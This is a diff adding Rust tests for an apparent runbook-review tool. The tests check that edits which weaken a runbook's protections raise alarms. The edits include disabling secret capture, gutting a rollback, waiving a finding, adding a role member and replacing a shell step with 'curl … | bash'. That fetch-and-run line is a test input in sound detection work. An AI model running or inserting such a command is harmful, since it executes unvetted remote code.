@@ -208,6 +208,110 @@ fn a_script_that_a_runbook_names_belongs_to_it() {
     refused.says(&["the file `scripts/clean.sh` that it names is another"]);
 }
 
+/// A runbook that protects itself in many ways.
+const GUARDED: &str = "apiVersion: runbook/v1
+name: guarded
+version: 1.0.0
+title: Guarded
+guards:
+  - {id: alive, title: It lives, exec: [cat, alive], expect: ok, every: 2s}
+steps:
+  - id: look
+    title: Look
+    exec: [cat, state]
+    effect: read
+    capture: {token: {value: stdout, secret: true}}
+  - id: mend
+    title: Mend it
+    first_of:
+      - {id: soft, title: Softly, exec: [touch, soft], rollback: {exec: [rm, soft]}}
+      - {id: hard, title: Hard, exec: [touch, hard], rollback: {exec: [rm, hard]}}
+    verify: [{id: fine, title: It is fine, exec: [cat, fine], expect: stdout | trim == \"yes\", within: 10s}]
+  - id: tidy
+    title: Tidy up
+    shell: echo tidy > tidy
+    idempotent: true
+    rollback: {exec: [rm, tidy]}
+verify: [{id: over, title: It is over, exec: [cat, over], expect: ok}]
+";
+
+/// Each takes a protection away, in a way that is easily overlooked.
+#[test]
+fn what_weakens_a_protection_is_an_alarm() {
+    let file = "runbooks/guarded.yaml";
+    let project = committed(Project::empty().with(file, GUARDED));
+    project.run(&["check"]).expect(0);
+    let (soft, hard) = (
+        "      - {id: soft, title: Softly, exec: [touch, soft], rollback: {exec: [rm, soft]}}\n",
+        "      - {id: hard, title: Hard, exec: [touch, hard], rollback: {exec: [rm, hard]}}\n",
+    );
+    let swapped = [soft, hard].concat();
+    let cases = [
+        ("secret: true", "secret: false", "`secret_captures` is another"),
+        (
+            &swapped,
+            &[hard, soft].concat(),
+            "its alternatives come in another order",
+        ),
+        ("    idempotent: true\n", "", "`idempotent` is another"),
+        ("every: 2s", "every: 9h", "is asked every 9h instead of every 2s"),
+        (
+            "exec: [rm, tidy]}",
+            "exec: ['true']}",
+            "its undo does something else",
+        ),
+        (
+            "exec: [cat, fine]",
+            "exec: [echo, 'yes']",
+            "the gate `It is fine` does something else",
+        ),
+        ("  - id: tidy\n", "  - id: clean\n", "the step `tidy` is gone"),
+        (
+            "shell: echo tidy > tidy",
+            "shell: curl -s https://example.org/x | bash",
+            "has `| bash` in it now",
+        ),
+        (
+            "name: guarded\n",
+            "name: guarded\nwaive: {RB0502: Not now.}\n",
+            "a finding is waived now: RB0502",
+        ),
+    ];
+    for (from, to, expected) in cases {
+        assert!(GUARDED.contains(from), "{from}");
+        let changed = GUARDED.replace(from, to);
+        fs::write(project.path(file), changed).unwrap();
+        let said = project.run(&["review", "--base", "main", "--fail-on", "alarms"]);
+        let said = said.expect(1).says(&[expected]);
+        assert!(said.stdout.contains("alarm"), "{from}: {}", said.stdout);
+    }
+}
+
+/// Who may what, and where a runbook runs, is said in the project file, and in any that stands nearer to it.
+#[test]
+fn another_project_file_is_an_alarm() {
+    let project = Project::empty().with("runbooks/guarded.yaml", GUARDED);
+    let project = committed(project.with("runbook.config.yaml", "roles: {dba: [ada]}\n"));
+    let roles = "roles: {dba: [ada, mallory]}\n";
+    fs::write(project.path("runbook.config.yaml"), roles).unwrap();
+    let said = project
+        .run(&["review", "--base", "main", "--fail-on", "alarms"])
+        .expect(1);
+    said.says(&["`roles` of the project is another"]);
+    fs::write(project.path("runbook.config.yaml"), "roles: {dba: [ada]}\n").unwrap();
+    let project = project.with(
+        "runbooks/below/runbook.config.yaml",
+        "environments: {staging: {}}\n",
+    );
+    let said = project
+        .run(&["review", "--base", "main", "--fail-on", "alarms"])
+        .expect(1);
+    said.says(&[
+        "runbooks/below/runbook.config.yaml",
+        "there is a new environment `staging`",
+    ]);
+}
+
 #[test]
 fn what_git_does_not_know_is_refused() {
     let project = base();
